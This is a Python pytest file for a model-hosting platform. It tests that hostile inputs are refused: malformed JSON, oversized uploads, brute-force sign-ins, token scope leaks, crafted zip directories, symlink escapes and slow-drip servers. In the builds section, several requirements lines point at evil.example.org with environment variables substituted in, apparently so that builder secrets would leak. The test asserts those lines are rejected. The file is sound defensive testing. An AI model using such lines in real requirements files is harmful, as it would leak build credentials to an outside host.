"""Values that strangers send where they are kept, shown to others or handed on: each is refused in words, or does no harm; none
breaks a list for everybody, fills memory, or is filled in with what is not theirs."""

import io
import json
import os
import struct
import threading
import time
import zipfile
from types import SimpleNamespace

import pytest
from markupsafe import escape

from builder.backends import guarded
from builder.errors import Fault
from builder.requirements import Reader, Requirements
from orchestrator.api import sse
from orchestrator.domain.internet import subject
from orchestrator.errors import Invalid, TooLarge, TooMany, Unauthorized
from orchestrator.services.attempts import ADDRESS, EACH, Attempts
from orchestrator.services.large_files import LargeLimits
from orchestrator.services.likes import Likes
from orchestrator.services.xet import Xet
from tests.console import Console
from tests.support import bearer
from web import app_schema, archive, highlight, page
from web.page import Console as Pages

REPO = "ab" * 12
ODD = ["NaN", "1e999", '"\\ud800"', '"\\u0000"']


@pytest.fixture(scope="module")
def console(tmp_path_factory):
    with Console(tmp_path_factory.mktemp("console")).listening() as console:
        console.space()
        yield console


@pytest.fixture
def client(console):
    with console.client() as client:
        yield client


# ---------------------------------------------------------------------------------------------------------- over the API


@pytest.mark.parametrize("value", ODD)
def test_an_answer_to_a_gate_cannot_keep_its_people_from_the_list(console, client, value):
    client.post("/api/repos/create", json={"name": "gated", "type": "model"})
    assert client.put("/api/models/ada/gated/settings", json={"gated": "manual"}).status_code == 200
    asked = client.post(
        "/models/ada/gated/ask-access",
        content=f'{{"a": {value}}}',
        headers={"content-type": "application/json", **bearer(console.bobs)},
    )
    assert (asked.status_code, asked.json()["code"]) == (400, "ANSWERS")
    assert client.get("/api/models/ada/gated/user-access-request/pending").json() == []


@pytest.mark.parametrize("value", ODD[:3])
def test_a_config_cannot_keep_a_list_from_being_told(console, client, value):
    made = client.post("/api/repos/create", json={"name": "odd", "type": "model"})
    assert made.status_code in (200, 409)
    content = {"path": "config.json", "content": f'{{"architectures": [{value}]}}', "encoding": "utf-8"}
    lines = [{"key": "header", "value": {"summary": "m"}}, {"key": "file", "value": content}]
    body = "\n".join(json.dumps(line) for line in lines)
    assert client.post("/api/models/ada/odd/commit/main", content=body).status_code == 200
    for path in ("/api/models/ada/odd", "/api/models?config=true", "/api/models?expand=config&author=ada"):
        assert client.get(path).status_code == 200, path


@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/spaces/ada/demo/paths-info/main", '{"paths": ["\\ud800"]}'),
        ("/api/spaces/ada/demo/sleeptime", '{"seconds": NaN}'),
        ("/api/spaces/ada/demo/sleeptime", '{"seconds": -Infinity}'),
        ("/api/repos/create", '{"name": "x", "volumes": ' + "[" * 600 + "]" * 600 + "}"),
        ("/api/repos/create", '{"name": "x", "volumes": ' + '{"a":' * 450 + "1" + "}" * 451),
    ],
)
def test_values_that_nothing_has_a_place_for(client, path, body):
    answer = client.post(path, content=body, headers={"content-type": "application/json"})
    assert answer.status_code == 400, answer.text


def test_the_form_of_a_gate_is_bounded(client):
    for path in ("/models/ada/x/ask-access", "/ada/x/ask-access", "/api/models/ada/x/user-access-request/ask"):
        assert client.post(path, content=b"a" * 2_000_000).status_code == 413


def test_what_is_sent_in_pieces_and_never_committed_has_an_end(tmp_path):
    large = SimpleNamespace(limits=LargeLimits(10, 100), usage=lambda repo: 40)
    xet = Xet(tmp_path, large)
    epoch = xet.epoch(REPO)
    for number in range(2):
        with xet.arriving(REPO, epoch, f"{number:064x}"):
            (tmp_path / REPO / epoch / f"kept{number}").write_bytes(b"x" * 40)
    with pytest.raises(TooLarge, match="80 bytes, there is room for 60 bytes"), xet.arriving(REPO, epoch, "a" * 64):
        pass


def test_who_may_only_propose_fills_no_more_than_half_a_repo(console, client, monkeypatch):
    monkeypatch.setattr(console.large, "limits", LargeLimits(200, 300))
    ask = {"operation": "upload", "objects": [{"oid": "c" * 64, "size": 160}]}
    told = [
        client.post("/spaces/ada/demo.git/info/lfs/objects/batch", json=ask, headers=bearer(token)).json()["objects"][0]
        for token in (console.token, console.bobs)
    ]
    assert "upload" in told[0]["actions"] and "actions" not in told[1]
    assert "limit 150 bytes for those who may not write to it" in told[1]["error"]["message"]
    at = client.get("/api/spaces/ada/demo/xet-write-token/main", headers=bearer(console.bobs)).json()
    url = at["casUrl"].replace("http://localhost:8000", "")
    monkeypatch.setattr(console.large, "limits", LargeLimits(200, -2))  # not even nothing fits
    sent = client.post(f"{url}/v1/xorbs/default/{'d' * 64}", content=b"x", headers=bearer(at["accessToken"]))
    assert sent.json()["code"] == "REPO_TOO_LARGE"


def test_a_stream_of_the_api_ends_with_the_token(console, client, monkeypatch):
    monkeypatch.setattr(sse, "ANEW", 0.0)
    token = console.parts.accounts.add_token(console.ada, "read", "for a stream")
    with console.client(token) as reader, reader.stream("GET", "/api/spaces/ada/demo/events") as answer:
        told = (line for line in answer.iter_lines() if line.startswith("data: {"))
        assert next(told)
        console.parts.accounts.revoke_token(console.ada, "for a stream")
        client.post("/api/spaces/ada/demo/sleeptime", json={"seconds": 800})
        assert next(told, None) is None


def test_a_stream_ends_with_the_session(console, monkeypatch):
    pages, asked = Pages(console.parts), SimpleNamespace(cookies={}, headers={}, client=None)
    secret = console.parts.accounts.new_session(console.ada)
    asked.cookies["podium-session"] = secret
    visits = pages.visits(asked, pages.visit(asked))
    assert visits().caller.name == "ada"
    console.parts.accounts.sign_out(secret)
    assert visits().caller.name == "ada"
    monkeypatch.setattr(page, "ANEW", 0.0)
    assert visits().caller.user is None


def test_a_pattern_in_a_preupload_keeps_nobody_waiting(client):
    body = {"files": [{"path": "a" * 250, "size": 1}], "gitIgnore": "*a" * 40 + "*b"}
    began = time.monotonic()
    answer = client.post("/api/spaces/ada/demo/preupload/main", json=body)
    assert answer.status_code == 200 and answer.json()["files"][0]["shouldIgnore"] is False
    assert time.monotonic() - began < 30  # as one plain regular expression: for ever


# ----------------------------------------------------------------------------------------------------------- signing in


def test_attempts_count_from_their_beginning(console):
    """A crowd of wrong passwords at once is not a crowd within the limit."""
    said: list[str] = []

    def attempt() -> None:
        try:
            console.parts.accounts.sign_in("ada", "wrong password", "192.0.2.7")
        except (Unauthorized, TooMany) as error:
            said.append(error.code)

    crowd = [threading.Thread(target=attempt) for _ in range(20)]
    for one in crowd:
        one.start()
    for one in crowd:
        one.join()
    assert len(said) == 20 and 1 <= said.count("SIGN_IN") <= EACH  # fewer on a machine that has no time


def test_many_names_from_one_network_are_one_guesser():
    now = [1000.0]
    attempts = Attempts(lambda: now[0])

    def attempt(name: str, address: str, good: bool = False) -> bool:
        try:
            with attempts.one(name, address) as succeeded:
                if good:
                    succeeded()
            return True
        except TooMany:
            return False

    assert all(attempt("ada", f"2001:db8::{n}", good=True) for n in range(3 * ADDRESS))
    assert sum(attempt(f"name{n}", f"2001:db8::{n:x}") for n in range(3 * ADDRESS)) == ADDRESS
    assert not attempt("another", "2001:db8::ffff") and attempt("another", "2001:db8:1::1")
    now[0] += 61
    assert attempt("another", "2001:db8::ffff")


@pytest.mark.parametrize(
    ("address", "counted"),
    [
        ("192.0.2.1", "192.0.2.1"),
        ("2001:db8::1", "2001:0db8:0000:0000"),
        ("::ffff:192.0.2.1", "192.0.2.1"),
        ("fe80::1%eth0", "fe80:0000:0000:0000"),
        ("unix", "unix"),
        ("x:y", "x:y"),
    ],
)
def test_who_is_counted(address, counted):
    assert subject(address) == counted


def test_a_token_for_one_repo_likes_no_other(console, client):
    assert isinstance(console.parts.likes, Likes)
    client.post("/api/repos/create", json={"name": "mine", "type": "model"})
    grants = console.parts.accounts.grants(console.ada, {}, {"models/ada/mine": "write"})
    token = console.parts.accounts.add_token(console.ada, "fineGrained", "one", grants=grants)
    assert client.post("/api/models/ada/mine/like", headers=bearer(token)).status_code == 200
    answer = client.post("/api/spaces/ada/demo/like", headers=bearer(token))
    assert (answer.status_code, answer.json()["code"]) == (403, "TOKEN_SCOPE")


# -------------------------------------------------------------------------------------------------------------- archives


def zipped(files: dict[str, bytes], way: int = zipfile.ZIP_DEFLATED) -> io.BytesIO:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", way) as file:
        for name, content in files.items():
            file.writestr(name, content)
    return made


def test_a_zip_is_read():
    made = archive.changes(zipped({"top/a.py": b"1", "top/b/c.txt": b"2"}), 100, 1000)
    assert {(one.path, one.content) for one in made} == {("a.py", b"1"), ("b/c.txt", b"2")}


def test_a_zip_of_another_compression_is_refused():
    with pytest.raises(Invalid, match="unusual"):
        archive.changes(zipped({"a": b"1"}, zipfile.ZIP_LZMA), 100, 1000)


def test_a_zip_that_lists_more_than_there_can_be_is_not_listed():
    """Its list says that it has a gigabyte; it is not read to find out."""
    made = zipped({"a": b"1"}).getvalue()
    at = made.rindex(b"PK\x05\x06")
    size, offset = struct.unpack_from("<II", made, at + 12)
    filler = b"\0" * (archive._LIST + 100)
    said = (
        made[:offset]
        + filler
        + made[offset:at]
        + made[at : at + 12]
        + struct.pack("<II", size + len(filler), offset)
        + b"\0\0"
    )
    with pytest.raises(TooLarge, match="lists too many"):
        archive.changes(io.BytesIO(said), 100, 1000)


# ---------------------------------------------------------------------------------------------------------------- builds


@pytest.mark.parametrize(
    "line",
    [
        "x @ https://evil.example.org/${UV_DEFAULT_INDEX}/x.whl",
        "https://evil.example.org/${UV_INDEX}.whl",
        "git+https://evil.example.org/${HTTPS_PROXY}",
        "--extra-index-url https://evil.example.org/${UV_DEFAULT_INDEX}",
        "-f https://evil.example.org/${UV_DEFAULT_INDEX}",
    ],
)
def test_requirements_are_not_filled_in_with_what_the_builder_knows(line):
    with pytest.raises(Fault, match="not filled in") as caught:
        Reader(lambda path: None, Requirements()).include("requirements.txt", line.encode(), (), False)
    assert caught.value.line == 1


def test_what_is_handed_over_is_no_more_than_the_folder(tmp_path):
    mine, other = tmp_path / "mine", tmp_path / "other"
    (mine / "deep").mkdir(parents=True)
    other.mkdir()
    (other / "secret").write_text("x")
    (mine / "link").symlink_to(other)
    (mine / "deep" / "file").symlink_to(other / "secret")
    before = {path: os.lstat(path).st_uid for path in (other, other / "secret")}
    guarded.hand_over(mine, 12345 if os.geteuid() == 0 else os.geteuid())
    assert {path: os.lstat(path).st_uid for path in before} == before
    assert len({os.lstat(path).st_uid for path in (mine, mine / "link", mine / "deep", mine / "deep" / "file")}) == 1


# ------------------------------------------------------------------------------------------------------------------ apps


def test_an_app_that_drips_its_schema_holds_nobody(monkeypatch):
    """Each byte comes in time, and there is no end of them."""
    import socket

    monkeypatch.setattr(app_schema, "PATIENCE", 0.5)
    listener = socket.create_server(("127.0.0.1", 0))
    ended = threading.Event()

    def drip() -> None:
        link, _ = listener.accept()
        with link:
            link.recv(4096)
            link.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\n")
            while not ended.wait(0.1):
                try:
                    link.sendall(b" ")
                except OSError:
                    return

    thread = threading.Thread(target=drip, daemon=True)
    thread.start()
    try:
        assert app_schema.fetch(f"127.0.0.1:{listener.getsockname()[1]}", "x", "/gradio_api/info") is None
    finally:
        ended.set()
        listener.close()
        thread.join(5)


def test_no_text_is_coloured_for_ever(monkeypatch):
    """With two of these lines a lexer is quick, with sixty it would look at all of them again from each quote."""
    monkeypatch.setattr(highlight, "SECONDS", 0.01)
    line = '\\"' * 900
    began = time.thread_time()
    shown = highlight.lines("a.js", "\n".join([line] * 60))
    assert shown == [str(escape(line))] * 60 and time.thread_time() - began < 30
    monkeypatch.setattr(highlight, "SECONDS", 60)
    assert highlight.lines("a.js", "let a = 1;")[0].startswith("<b")


def test_an_example_of_an_app_is_shown_only_if_it_can_be():
    told = {"named_endpoints": {"/p": {"parameters": [{"parameter_name": "a", "example_input": "\ud800"}]}}}
    (endpoint,) = app_schema.of_gradio(told)
    for text in app_schema.code(endpoint, "http://x", False).values():
        text.encode()
